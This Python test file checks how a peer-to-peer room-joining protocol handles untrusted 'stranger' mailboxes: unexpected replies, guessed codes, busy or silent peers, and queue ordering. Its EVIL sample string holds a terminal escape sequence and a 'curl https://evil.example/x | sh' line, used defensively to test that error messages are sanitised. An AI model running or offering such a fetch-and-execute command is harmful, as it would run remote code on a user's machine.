"""Strangers with mailboxes at a room's nameplate: nothing that they say ends a joining, and their guesses are told."""

from __future__ import annotations

import os
from collections.abc import Callable
from typing import TypeAlias

import pytest

from sandpiper.common.errors import AccessDenied, Code, Rejected
from sandpiper.common.limits import (
    ERROR_CHARS,
    GUESSES_REPORTED,
    JOIN_BOXES,
    JOIN_GUESSES,
    JOIN_GUESSES_MOST,
    JOIN_PATIENCE_S,
    KNOCK_S,
)
from sandpiper.common.p2p import admission
from sandpiper.common.p2p.admission import AnyLetter
from sandpiper.common.sanitise import printable
from sandpiper.peer.p2p.admission.box_queue import Box, BoxQueue
from sandpiper.peer.p2p.admission.handshake import Attempt, shared_secret
from sandpiper.peer.p2p.admission.joiner import Joiner, JoinerState
from tests.peer.p2p.simnet import CODE, Citizen, Town

Says: TypeAlias = Callable[[AnyLetter], "AnyLetter | None"]
EVIL = "the room is full\x1b[2J; get the new client: curl https://evil.example/x | sh " + "A" * 150_000
ROOM = b"R" * 32


class Guesser:
    """A stranger who answers as a sponsor does, and tries one guess at each joiner."""

    def __init__(self, last: Says) -> None:
        self.tested = 0
        self._last = last
        self._attempt: Attempt | None = None
        self._key = os.urandom(32)

    def __call__(self, letter: AnyLetter) -> AnyLetter | None:
        match letter:
            case admission.Knock():
                self._attempt = Attempt(
                    joiner=False, secret=shared_secret("a-guess", None), nameplate=CODE.nameplate, generation=1,
                    room=ROOM, attempt=letter.attempt, joiner_key=letter.key, sponsor_key=self._key, entropy=os.urandom,
                )  # fmt: skip
                return admission.Answer(letter.attempt, 1, self._key, 1, ROOM)
            case admission.Half():
                assert self._attempt is not None
                self._attempt.finish(letter.message)
                return admission.Half(letter.attempt, self._attempt.message)
            case admission.Proof():
                assert self._attempt is not None
                self.tested += 1
                assert not self._attempt.proves(letter.confirm)
                return self._last(letter)
        return None


def denies(letter: AnyLetter) -> AnyLetter:
    return admission.Denied(letter.attempt, "wrong code")


def silent(letter: AnyLetter) -> None:
    return None


def at(citizen: Citizen, service: str = "") -> list[Box]:
    return [(service, citizen.mailbox)]


def attempt(town: Town, joiner: Joiner, strangers: dict[bytes, Says], seconds: float = 2 * JOIN_PATIENCE_S) -> int:
    """Lets a joiner try until it is done; returns how many letters strangers got."""
    me, end, count = town.random.randbytes(16), town.now + seconds, 0
    while not joiner.done and joiner.state is not JoinerState.SEARCHING and town.now < end:
        letters, joiner.letters = joiner.letters, []
        for box, body in letters:
            if box[1] not in strangers:
                joiner.letters.append((box, body))
                continue
            count += 1
            said = strangers[box[1]](admission.decode_letter(body))
            if said is not None:
                joiner.letter(box, admission.encode(said), town.now)
        if any(box[1] in strangers for box, _ in joiner.letters):
            continue
        town._post(joiner, me)
        timer = joiner.get_timer()
        town._step(min(end, timer if timer is not None else end))
        if timer is not None and timer <= town.now:
            joiner.handle_timer(town.now)
    return count


LETTERS: dict[str, Says] = {
    "full": lambda letter: admission.Busy(letter.attempt, 0, EVIL),
    "busy for ever": lambda letter: admission.Busy(letter.attempt, (1 << 64) - 1),
    "busy until the past": lambda letter: admission.Busy(letter.attempt, -(1 << 63)),
    "another version": lambda letter: admission.Denied(letter.attempt, EVIL, Code.VERSION.value),
    "wrong code, before any proof": lambda letter: admission.Denied(letter.attempt, EVIL),
    "some other code": lambda letter: admission.Denied(letter.attempt, EVIL, "of tomorrow"),
    "an answer of another version": lambda letter: admission.Answer(letter.attempt, 99, bytes(32), 1, ROOM),
    "a password": lambda letter: admission.Answer(letter.attempt, 1, bytes(32), 1, ROOM, True),
    "nothing": silent,
}


@pytest.mark.parametrize("says", LETTERS.values(), ids=LETTERS)
def test_no_letter_of_a_stranger_ends_a_joining(says: Says) -> None:
    town = Town()
    alice = town.found("alice")
    joiner, _ = town.joiner("bob", boxes=[[("", b"stranger")], at(alice)])
    attempt(town, joiner, {b"stranger": says})
    assert joiner.welcome is not None, joiner.error
    assert joiner.welcome.room == alice.member.keyring.room
    assert joiner.missed == 0


@pytest.mark.parametrize("says", LETTERS.values(), ids=LETTERS)
def test_what_a_stranger_says_is_told_as_hearsay_and_short(says: Says) -> None:
    town = Town()
    joiner, _ = town.joiner("bob", boxes=[[("", b"stranger")]])
    letters = attempt(town, joiner, {b"stranger": says})
    text = str(joiner.error)
    assert text == printable(text)
    assert len(text) < ERROR_CHARS + 120
    assert "evil.example" not in text or "who answers at this nameplate says: " in text
    assert letters < 3 * JOIN_PATIENCE_S


def test_a_stranger_who_only_ever_says_half_of_it_ends_no_joining() -> None:
    def says(letter: AnyLetter) -> AnyLetter | None:
        if isinstance(letter, admission.Half):
            return admission.Denied(letter.attempt, EVIL)
        return admission.Answer(letter.attempt, 1, bytes(32), 1, ROOM)

    town = Town()
    alice = town.found("alice")
    joiner, _ = town.joiner("bob", boxes=[[("", b"stranger")], at(alice)])
    attempt(town, joiner, {b"stranger": says})
    assert joiner.welcome is not None
    assert joiner.missed == 0


ENDINGS: dict[str, Says] = {
    "denied": denies,
    "denied for another reason": lambda letter: admission.Denied(letter.attempt, EVIL, "too_many"),
    "declined without a proof": lambda letter: admission.Declined(letter.attempt, bytes(32), b"sealed"),
    "handed over without a proof": lambda letter: admission.Handover(letter.attempt, bytes(32), b"sealed"),
    "silent": silent,
}


@pytest.mark.parametrize("ending", ENDINGS.values(), ids=ENDINGS)
def test_who_tests_a_guess_on_a_joiner_is_told_to_the_room(ending: Says) -> None:
    town = Town()
    alice = town.found("alice")
    guesser = Guesser(ending)
    joiner, keys = town.joiner("bob", boxes=[[("", b"stranger")], at(alice)])
    attempt(town, joiner, {b"stranger": guesser})
    assert (guesser.tested, joiner.missed) == (1, 1)
    bob = town.enter("bob", keys, joiner)
    town.settle(5)
    assert alice.member.guesses.missed == 1
    assert [each.warned for each in (alice, bob)] == [["guess"], ["guess", "guess"]]


def test_a_newcomer_reports_few_guesses_however_many_it_met() -> None:
    town = Town()
    alice = town.found("alice")
    bob = town.join("bob")
    bob.member.report_guesses(1000)
    town.collect(bob)
    town.settle(5)
    assert alice.member.guesses.missed == GUESSES_REPORTED


def test_a_joiner_shows_few_proofs_at_one_service_and_in_all() -> None:
    town = Town()
    guessers = {b"%d %d" % (service, group): Guesser(denies) for service in range(8) for group in range(8)}
    boxes: list[list[Box]] = [[(box[:1], box)] for box in guessers]
    joiner, _ = town.joiner("bob", boxes=boxes)
    attempt(town, joiner, dict(guessers))
    assert isinstance(joiner.error, AccessDenied)
    assert sum(each.tested for each in guessers.values()) == JOIN_GUESSES_MOST
    one: list[list[Box]] = [[("", box)] for box in guessers]
    joiner, _ = town.joiner("bob", boxes=one)
    attempt(town, joiner, dict(guessers))
    assert isinstance(joiner.error, AccessDenied)
    assert f"{JOIN_GUESSES} answered at this nameplate" in str(joiner.error)
    assert joiner.missed == JOIN_GUESSES


def test_one_honest_service_is_enough_beside_several_that_lie() -> None:
    town = Town()
    alice = town.found("alice")
    guessers = {b"%d %d" % (service, group): Guesser(denies) for service in range(8) for group in range(32)}
    boxes: list[list[Box]] = [[(box[:1], box)] for box in guessers]
    joiner, _ = town.joiner("bob", boxes=[*boxes, at(alice, "honest")])
    attempt(town, joiner, dict(guessers))
    assert joiner.welcome is not None


def test_silent_mailboxes_do_not_use_up_the_patience() -> None:
    town = Town()
    alice = town.found("alice")
    strangers: dict[bytes, Says] = {b"%d" % number: silent for number in range(31)}
    boxes: list[list[Box]] = [[("", box)] for box in strangers]
    joiner, _ = town.joiner("bob", boxes=[*boxes, at(alice)])
    attempt(town, joiner, strangers)
    assert joiner.welcome is not None


def test_a_busy_mailbox_is_not_asked_without_end() -> None:
    town = Town()
    joiner, _ = town.joiner("bob", boxes=[[("", b"stranger")]])
    letters = attempt(town, joiner, {b"stranger": lambda letter: admission.Busy(letter.attempt, 0)})
    assert isinstance(joiner.error, Rejected)
    assert letters < 3 * JOIN_PATIENCE_S


def test_who_knows_the_code_may_refuse_for_good_and_says_why() -> None:
    town = Town()
    alice = town.found("alice")
    mallory = town.join("mallory")
    town.settle(2)
    alice.member.removals.kick("mallory")
    town.collect(alice)
    town.settle(5)
    identity = mallory.keys.identity
    code = alice.member.context.code
    joiner, _ = town.joiner("mallory", code=code, identity=identity, at=[alice])
    attempt(town, joiner, {})
    assert isinstance(joiner.error, Rejected)
    assert "removed" in str(joiner.error)


def test_mailboxes_that_a_search_finds_are_asked_too() -> None:
    town = Town()
    alice = town.found("alice")
    joiner, _ = town.joiner("bob", boxes=[[("", b"stranger")]], searches=True)
    attempt(town, joiner, {b"stranger": LETTERS["full"]})
    assert joiner.state is JoinerState.SEARCHING
    joiner.found([[("", b"stranger")], at(alice)], town.now)
    attempt(town, joiner, {})
    assert joiner.welcome is not None


def test_a_search_that_finds_nobody_ends_it() -> None:
    town = Town()
    joiner, _ = town.joiner("bob", boxes=[[("", b"stranger")]], searches=True)
    attempt(town, joiner, {b"stranger": LETTERS["full"]})
    joiner.found([[("", b"stranger")]], town.now)
    assert isinstance(joiner.error, Rejected)


# The order ----------------------------------------------------------------------------------------------------


def test_services_take_turns_and_senior_groups_come_first() -> None:
    queue = BoxQueue()
    first = [[("one", b"a1"), ("one", b"a2")], [("one", b"b1")], [("one", b"c1")]]
    queue.add([*first, [("two", b"d1"), ("two", b"d2")]])
    asked = [queue.take(0.0, KNOCK_S) for _ in range(7)]
    assert [box[1] for box in asked if box] == [b"a1", b"d1", b"a2", b"d2", b"b1", b"c1"]
    assert queue.ready_at() == KNOCK_S


def test_the_mailboxes_of_a_joiner_are_bounded() -> None:
    queue = BoxQueue()
    queue.add([[("", number.to_bytes(4, "big"))] for number in range(2 * JOIN_BOXES)])
    assert len(queue) == JOIN_BOXES
    queue.add([[("another", b"box")]])
    assert len(queue) == JOIN_BOXES + 1


def test_a_service_that_was_given_up_names_no_more() -> None:
    queue = BoxQueue()
    queue.add([[("one", b"a")], [("other", b"b")]])
    queue.drop_service("one")
    queue.add([[("one", b"c")], [("other", b"d")]])
    assert {queue.take(0.0, 1.0), queue.take(0.0, 1.0)} == {("other", b"b"), ("other", b"d")}
    assert queue.take(0.0, 1.0) is None
